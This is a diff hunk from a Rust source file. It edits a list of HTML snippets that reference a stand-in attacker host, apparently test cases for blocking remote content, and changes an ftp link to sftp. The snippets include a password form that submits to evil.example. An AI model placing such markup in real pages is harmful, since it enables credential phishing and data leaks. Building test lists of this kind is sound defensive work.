@@ -64,7 +64,7 @@ pub const REMOTE: &[&str] = &[
     r#"<form action="https://evil.example/"><input name=password type=password><button>go</button></form>"#,
     r#"<button formaction="https://evil.example/">go</button>"#,
     r#"<a href="https://example.org" target="_top">over the app</a>"#,
-    r#"<a href="ftp://evil.example/">x</a>"#,
+    r#"<a href="sftp://evil.example/">x</a>"#,
     r#"<blockquote cite="https://evil.example/">x</blockquote>"#,
     r#"<q cite="https://evil.example/">x</q><ins cite="https://evil.example/">y</ins>"#,
     r#"<html manifest="https://evil.example/a.appcache">x"#,
